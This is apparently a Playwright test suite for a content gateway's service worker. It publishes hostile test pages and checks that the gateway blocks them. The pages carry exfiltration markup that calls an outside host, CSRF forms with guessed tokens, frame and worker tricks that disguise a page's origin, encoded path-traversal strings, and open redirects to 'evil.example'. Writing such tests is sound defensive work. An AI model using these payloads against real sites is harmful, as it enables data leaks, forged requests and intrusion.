import type { Request } from '@playwright/test';
import { Address } from '../../src/address.ts';
import { errorCode, expect, fetchIn } from '../support/chromium.ts';
import { attack, attacks, verdict } from './attack.ts';
import { Outside, picture, ran, type Scene, scenesOfAttacks } from './hostile-site.ts';

const scenes = scenesOfAttacks();

const page = (body: string) => `<!doctype html><title>Hostile</title>${body}`;
const outsideGroup = 'Reaching the outside from a page without trust';
const noRequest = 'No request leaves for another origin.';

interface Leak {
  name: string;
  /** The part of a page that asks the outside, at this URL. The rest of the page belongs to other leaks. */
  body(outside: string): string;
  /** The element that the page lures the user to click. */
  click?: string;
  /** Paths that are asked of the outside once the page has trust: then the attack itself works. */
  reachedWithTrust: readonly string[];
}

/** Leaks that can share a page. */
const leaks: readonly Leak[] = [
  {
    name: 'pictures, films, sounds, subtitles and plug-ins',
    body: (to) => `<img src="${to}/img"><picture><source srcset="${to}/srcset"><img></picture>
<video poster="${to}/poster" src="${to}/video"></video><audio src="${to}/audio" autoplay></audio>
<video src="p.svg"><track default src="${to}/track" kind="captions"></video><input type="image" src="${to}/input">
<body background="${to}/background"><svg width="9" height="9"><image href="${to}/svg"/></svg>
<object data="${to}/object"></object><embed src="${to}/embed">`,
    reachedWithTrust: ['img', 'srcset', 'poster', 'video', 'audio', 'input', 'background', 'svg'],
  },
  {
    name: 'style sheets: `@import`, `url()`, fonts, cursors, filters and `image-set()`',
    body: (to) => `<link rel="stylesheet" href="${to}/link"><link rel="stylesheet" href="s.css">
<style>@import "${to}/import"; @font-face { font-family: f; src: url(${to}/font) }
p { background: url(${to}/url); font-family: f; list-style: url(${to}/list); display: list-item }
div { background: image-set("${to}/image-set" 1x); cursor: url(${to}/cursor), auto; border-image: url(${to}/border) 1 }
input[value^="s"] { background: url(${to}/attribute) }</style><p>text<div>text</div><input value="secret">
<style>@import "data:text/css,html{background:url(${to}/data)}";</style>`,
    reachedWithTrust: ['link', 'import', 'font', 'url', 'list', 'image-set', 'attribute', 'data'],
  },
  {
    name: '`<link>` of every kind: icons, preloads, prefetches, manifests',
    body: (to) =>
      [
        'icon',
        'apple-touch-icon',
        'preload" as="image',
        'preload" as="font" crossorigin="',
        'preload" as="fetch" crossorigin="',
        'prefetch',
        'prerender',
        'modulepreload',
        'manifest',
        'alternate stylesheet',
        'dns-prefetch',
        'compression-dictionary',
      ]
        .map((rel, i) => `<link rel="${rel}" href="${to}/link-${i}">`)
        .join(''),
    reachedWithTrust: ['link-2', 'link-3', 'link-4', 'link-7'],
  },
  {
    name: 'frames of every kind: `iframe`, `frame`, `fencedframe`, `portal`, `applet`',
    body: (to) =>
      `<iframe src="${to}/iframe"></iframe><iframe srcdoc="<iframe src='${to}/nested'></iframe>"></iframe>
<fencedframe></fencedframe><portal src="${to}/portal"></portal><applet code="${to}/applet"></applet>
<iframe src="data:text/html,<img src='${to}/data'>"></iframe><iframe src="frameset.html"></iframe>`,
    reachedWithTrust: ['iframe', 'nested', 'data', 'frameset'],
  },
  {
    name: 'speculation rules for prefetching and prerendering',
    body: (to) =>
      `<script type="speculationrules">{"prefetch":[{"urls":["${to}/prefetch"],"eagerness":"immediate"}],"prerender":[{"urls":["${to}/prerender"],"eagerness":"immediate"}]}</script><script>new Image().src = '${to}/control'</script>`,
    reachedWithTrust: ['control'],
  },
  {
    name: 'attribution, topics and shared storage by attributes',
    body: (to) =>
      `<img src="p.svg" attributionsrc="${to}/attribution" browsingtopics sharedstoragewritable><img src="${to}/plain" attributionsrc>`,
    reachedWithTrust: ['plain'],
  },
  {
    name: '`<a ping>`',
    body: (to) => `<a href="#on" ping="${to}/ping /-/reset">a link</a>`,
    click: 'a link',
    reachedWithTrust: ['ping'],
  },
  // The last one: with trust, its click leads the page away.
  {
    name: 'forms, sent by a click',
    body: (to) =>
      `<form method="post" action="${to}/post"><input name="a" value="b"><button>a button</button></form>`,
    click: 'a button',
    reachedWithTrust: ['post'],
  },
];

/** Leaks that lead the page, or its other URLs, somewhere else. */
const leadingLeaks: readonly Leak[] = [
  {
    name: 'a refresh, with the whole URL as the referrer',
    body: (to) =>
      `<meta name="referrer" content="unsafe-url"><meta http-equiv="refresh" content="0;url=${to}/refresh">`,
    reachedWithTrust: ['refresh'],
  },
  {
    name: '`<base>`: relative URLs that lead to another origin',
    body: (to) => `<base href="${to}/base/"><img src="picture"><a href="link">a link</a>`,
    reachedWithTrust: ['base/picture'],
  },
];

for (const [title, together] of [
  ['elements, styles, links, frames and clicks', leaks],
  ['a refresh and another base', leadingLeaks],
] as const) {
  attacks(
    outsideGroup,
    title,
    together.map(({ name }) => ({ name, outcome: noRequest })),
    async () => {
      const scene = await scenes('worker');
      await using outside = await Outside.start();
      const to = (leak: Leak) => `${outside.url}/${together.indexOf(leak)}`;
      const styles = to(leaks[1]!);
      const files = {
        'index.html': page(together.map((leak) => leak.body(to(leak))).join('\n')),
        's.css': `@import "${styles}/file-import"; b { background: url(${styles}/file) }`,
        'frameset.html': `<!doctype html><frameset><frame src="${to(leaks[3]!)}/frameset"></frameset>`,
        'p.svg': picture,
      };
      const address = await scene.publish(files, 'restricted');
      const visit = async () => {
        const tab = await scene.visit(`/${address}/?secret=query`);
        for (const { click } of together) {
          if (click) await tab.getByText(click).click({ noWaitAfter: true });
        }
        await scene.settled(tab);
        return tab;
      };
      const tab = await visit();
      const reached = await outside.reachedSoFar(scene.context);
      for (const leak of together) {
        const prefix = `${together.indexOf(leak)}/`;
        verdict(
          reached.filter((path) => path.startsWith(prefix)),
          leak.name,
        ).toEqual([]);
      }
      expect(reached).toEqual([]);
      expect(new URL(tab.url()).origin).toBe(scene.gateway.url);
      await scene.decide(address, 'trusted');
      await visit();
      const works = together.flatMap(({ reachedWithTrust }, i) =>
        reachedWithTrust.map((path) => `${i}/${path}`),
      );
      await expect.poll(() => outside.reached).toEqual(expect.arrayContaining(works));
    },
  );
}

attack(
  outsideGroup,
  '`<base>` that leads to another address of the gateway',
  'Relative URLs stay the page’s own.',
  async () => {
    const scene = await scenes('worker');
    const third = await scene.publish({ 'p.svg': picture }, 'restricted');
    const hostile = await scene.publish(
      { 'index.html': page(`<base href="/${third}/"><img src="p.svg">`), 'p.svg': picture },
      'restricted',
    );
    const tab = await scene.visit(`/${hostile}/`);
    expect(await tab.evaluate(() => document.images[0]!.src)).toBe(`${scene.gateway.url}/${hostile}/p.svg`);
    await scene.decide(hostile, 'trusted');
    const trusted = await scene.visit(`/${hostile}/`);
    expect(await trusted.evaluate(() => document.images[0]!.src)).toBe(`${scene.gateway.url}/${third}/p.svg`);
  },
);

const endpoints = 'The endpoints of the worker';

attack(
  endpoints,
  'A page without trust sends a form to the endpoints, guesses the token, and pings them',
  'The browser sends nothing, and nothing is decided.',
  async () => {
    const scene = await scenes('worker');
    const victim = await scene.publish({ 'index.html': page('') });
    const names = ['trust', 'reset', 'settings', 'manifests', 'pins', 'import'];
    const hostile = await scene.publish(
      {
        'index.html': page(
          names
            .map(
              (name) =>
                `<form method="post" action="/-/${name}"><input name="token" value="guess"><input name="address" value="${victim}"><input name="decision" value="trusted"><input name="return" value="/"><button>${name}</button></form>`,
            )
            .join(''),
        ),
      },
      'restricted',
    );
    const before = await decisions(scene);
    const asked: string[] = [];
    const note = (request: Request) => {
      if (request.method() === 'POST') asked.push(request.url());
    };
    scene.context.on('request', note);
    const tab = await scene.visit(`/${hostile}/`);
    for (const name of names) await tab.getByRole('button', { name, exact: true }).click();
    scene.context.off('request', note);
    expect(asked).toEqual([]);
    expect(before).toMatchObject({ [hostile]: 'restricted' });
    expect(await decisions(scene)).toEqual(before);
  },
);

attack(
  endpoints,
  'Another site sends a form to every endpoint, with a guessed token',
  'The worker refuses each of them.',
  async () => {
    const scene = await scenes('worker');
    await using outside = await Outside.start();
    const victim = await scene.publish({ 'index.html': page('') });
    const before = await decisions(scene);
    for (const name of ['trust', 'reset', 'manifests', 'pins', 'import', 'test-peer']) {
      const tab = await scene.context.newPage();
      await tab.goto(outside.url);
      await tab.setContent(
        `<form method="post" action="${scene.gateway.url}/-/${name}"><input name="token" value="guess"><input name="address" value="${victim}"><input name="decision" value="trusted"><input name="return" value="/"><button>send</button></form>`,
      );
      const answer = tab.waitForResponse((response) => response.url().endsWith(`/-/${name}`));
      await tab.getByRole('button').click();
      expect((await answer).status(), name).toBe(403);
    }
    expect(before).not.toHaveProperty(victim);
    expect(await decisions(scene)).toEqual(before);
  },
);

/**
 * Ways for a trusted page to look like the shell. Each is a script that gives the status of a request to an endpoint. They run
 * one after the other; the last ones change the URL of the page.
 */
const disguises: readonly [how: string, script: string][] = [
  ['by itself', "(await fetch('/-/trust')).status"],
  [
    'from nested `about:blank` and `srcdoc` frames',
    `Math.min(...(await Promise.all(['about:blank', 'srcdoc'].map(async (kind) => {
      const outer = document.body.appendChild(document.createElement('iframe'));
      if (kind === 'srcdoc') { outer.srcdoc = '<p>'; await new Promise((done) => { outer.onload = done; }); }
      const inner = outer.contentDocument.body.appendChild(outer.contentDocument.createElement('iframe'));
      return (await inner.contentWindow.fetch(location.origin + '/-/trust')).status;
    }))))`,
  ],
  [
    'from a `blob:` worker',
    `await new Promise((done) => {
      const text = "fetch('" + location.origin + "/-/trust').then(({ status }) => postMessage(status))";
      new Worker(URL.createObjectURL(new Blob([text]))).onmessage = ({ data }) => done(data);
    })`,
  ],
  [
    'from a `SharedWorker`',
    `await new Promise((done) => {
      new SharedWorker('shared.js').port.onmessage = ({ data }) => done(data);
    })`,
  ],
  [
    "after `history.replaceState('/')`",
    "(history.replaceState(null, '', '/'), (await fetch('/-/trust')).status)",
  ],
  [
    'by `document.open` in a frame, which takes over the URL',
    `await (async () => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      history.replaceState(null, '', '/');
      frame.contentDocument.open(); frame.contentDocument.write('<p>'); frame.contentDocument.close();
      return (await frame.contentWindow.fetch('/-/trust')).status;
    })()`,
  ],
];

attacks(
  endpoints,
  'a trusted page requests them in several ways',
  disguises.map(([how]) => ({
    name: `A trusted page requests them ${how}`,
    outcome: 'The worker refuses the request, or it does not reach the worker.',
  })),
  async () => {
    const scene = await scenes('worker');
    const ask = disguises.map(([, script]) => `statuses.push(${script})`).join(';\n');
    const hostile = await scene.publish(
      {
        'index.html': page(
          `<body><script type="module">const statuses = []; ${ask}; document.title = statuses.join()</script>`,
        ),
        'shared.js': `onconnect = async ({ ports }) => ports[0].postMessage((await fetch('/-/trust')).status)`,
      },
      'trusted',
    );
    const tab = await scene.visit(`/${hostile}/`);
    await expect(tab).toHaveTitle(/^[\d,]+$/);
    const statuses = (await tab.title()).split(',');
    // Some frames have no worker: then the host answers, which has no endpoints.
    for (const [i, [how]] of disguises.entries()) verdict(['403', '404'], how).toContain(statuses[i]);
    expect((await scene.gateway.fetch('/-/trust')).status).toBe(200);
  },
);

attack(
  'Workers',
  'A trusted page registers a service worker of its own',
  'The browser refuses, and the gateway’s worker stays the only one.',
  async () => {
    const scene = await scenes('worker');
    const hostile = await scene.publish(
      {
        'index.html': page(
          `<script>navigator.serviceWorker.register('own.js').then(() => { document.title = 'registered' }, () => { document.title = 'refused' })</script>`,
        ),
        'own.js': ran('own worker'),
      },
      'trusted',
    );
    const tab = await scene.visit(`/${hostile}/`);
    await expect(tab).toHaveTitle('refused');
    const scopes = await tab.evaluate(async () =>
      (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => new URL(scope).pathname),
    );
    expect(scopes).toEqual(['/']);
    expect(scene.messages).toEqual([]);
  },
);

const paths = 'Paths and names';

attack(
  paths,
  'Encoded dots and slashes lead out of an address, once and twice encoded',
  'The path is refused or not found. It never leads to an endpoint, the shell or another address.',
  async () => {
    const scene = await scenes('worker');
    const third = await scene.publish({ 'secret.txt': 'secret' }, 'restricted');
    const hostile = await scene.publish({ 'index.html': page('') }, 'restricted');
    for (const path of [
      `..%2f${third}%2fsecret.txt`,
      `..%5c..%5c-/trust`,
      `%252e%252e/${third}/secret.txt`,
      `%252e%252e%252f-%252ftrust`,
      `a%2f..%2f..%2f-%2ftrust`,
      `.%00./-/trust`,
      `%2f-%2ftrust`,
      `%E0%A4%A`,
    ]) {
      const { status, text } = await scene.gateway.fetch(`/${hostile}/${path}`);
      expect([400, 404], path).toContain(status);
      expect(['BAD_ADDRESS', 'NOT_FOUND'], path).toContain(errorCode({ text } as never));
    }
  },
);

attack(
  paths,
  'Properties of every JavaScript object (`__proto__`, `constructor`) are the path, query, endpoint and file',
  'They are ordinary names.',
  async () => {
    const scene = await scenes('worker');
    const site = await scene.publish(
      {
        'index.html': page(''),
        'app-conf.json': '{"routeMap":{"__proto__":"constructor","toString":"__proto__"}}',
        constructor: 'a file',
        'x.constructor': 'by its extension',
      },
      'restricted',
    );
    const { gateway } = scene;
    const status = async (path: string) => (await gateway.fetch(path)).status;
    expect((await gateway.fetch(`/${site}/constructor`)).text).toBe('a file');
    expect((await gateway.fetch(`/${site}/x.constructor`)).headers['content-type']).toMatch(/^text\/plain/);
    expect(await status(`/${site}/toString`)).toBe(404);
    expect(await status(`/${site}/hasOwnProperty`)).toBe(404);
    for (const name of ['__proto__', 'constructor', 'toString']) {
      expect(await status(`/-/${name}`), name).toBe(404);
      expect(await status(`/${site}/?format=${name}`), name).toBe(501);
      expect(await status(`/${site}/?${name}=1&download=${name}`), name).toBe(200);
    }
    const names = await gateway.shell.evaluate(async () => {
      const body = JSON.stringify({ address: '__proto__', decision: 'constructor' });
      const posted = await fetch('/-/trust', { method: 'POST', body });
      return [posted.status, ({} as Record<string, unknown>).trusted];
    });
    expect(names).toEqual([400, undefined]);
  },
);

attack(
  paths,
  'Redirects of content: folders, two slashes, routes with a host in them',
  'Each leads below the content’s own address.',
  async () => {
    const scene = await scenes('worker');
    const site = await scene.publish(
      {
        'folder/a.txt': 'a',
        'evil.example/a.txt': 'a',
        'app-conf.json':
          '{"routeMap":{"out":"https://evil.example/","up":"../../-/trust","slashes":"//evil.example/"}}',
      },
      'restricted',
    );
    for (const path of [
      '',
      '/folder',
      '/folder?next=//evil.example',
      '//evil.example',
      '///evil.example',
      '/evil.example',
      '/out',
      '/up',
      '/slashes',
    ]) {
      const { url, status } = await scene.gateway.shell.evaluate(async (path) => {
        const { url, status } = await fetch(path);
        return { url, status };
      }, `/${site}${path}`);
      expect(url, path).toMatch(`${scene.gateway.url}/${site}/`);
      expect([200, 404], path).toContain(status);
    }
  },
);

attack(
  paths,
  'On an origin of its own, a folder with the name of a host, behind two slashes',
  'The redirect stays on the origin.',
  async () => {
    const scene = await scenes('worker');
    const site = await scene.publish({ 'index.html': page('Own'), 'evil.example/a.txt': 'a' });
    const { port } = new URL(scene.gateway.url);
    const origin = `http://${Address.fromHex(site).base32}.antway.localhost:${port}`;
    const tab = await scene.context.newPage();
    await tab.goto(`${origin}/`);
    await expect(tab).toHaveTitle('Hostile');
    for (const path of ['//evil.example', '/evil.example', '//evil.example/', '///evil.example']) {
      await tab.goto(origin + path);
      expect(new URL(tab.url()).origin, path).toBe(origin);
    }
  },
);

const others = 'Other sites of the web';

attack(
  others,
  'Another site reads content by `fetch`, and uses it as script, style and picture',
  'It gets no content: its requests do not reach the worker, and the host has none.',
  async () => {
    const scene = await scenes('worker');
    await using outside = await Outside.start();
    const site = await scene.publish(
      { 'x.js': ran('cross-origin'), 'secret.txt': 'secret', 'p.svg': picture, 's.css': 'p { color: red }' },
      'trusted',
    );
    const tab = await scene.context.newPage();
    await tab.goto(outside.url);
    const read = await tab.evaluate(async (base) => {
      const loads = (tag: string, properties: object) =>
        new Promise((resolve) => {
          const element = document.createElement(tag);
          Object.assign(element, properties, {
            onload: () => resolve('loaded'),
            onerror: () => resolve('failed'),
          });
          document.body.append(element);
        });
      const fetched = await fetch(`${base}secret.txt`).then(
        (response) => response.text(),
        () => 'failed',
      );
      return [
        fetched,
        await loads('script', { src: `${base}x.js` }),
        await loads('img', { src: `${base}p.svg` }),
        await loads('link', { rel: 'stylesheet', href: `${base}s.css` }),
      ];
    }, `${scene.gateway.url}/${site}/`);
    expect(read).toEqual(['failed', 'failed', 'failed', 'failed']);
    expect(scene.messages).toEqual([]);
    expect((await scene.gateway.fetch(`/${site}/secret.txt`)).text).toBe('secret');
  },
);

attack(
  others,
  'A link to another site sends it the URL with its query',
  'The referrer is withheld.',
  async () => {
    const scene = await scenes('worker');
    await using outside = await Outside.start();
    const site = await scene.publish(
      { 'index.html': page(`<a href="${outside.url}/linked">out</a>`) },
      'restricted',
    );
    const tab = await scene.visit(`/${site}/?secret=query`);
    await tab.getByText('out').click();
    await expect(tab).toHaveTitle('Outside');
    expect(outside.hits.map(({ path, headers }) => [path, headers.referer])).toEqual([['linked', undefined]]);
  },
);

async function decisions(scene: Scene): Promise<Record<string, string>> {
  const { text } = await fetchIn(scene.gateway.shell, '/-/trust');
  const list = JSON.parse(text) as { address: string; decision: string }[];
  return Object.fromEntries(list.map(({ address, decision }) => [address, decision]));
}
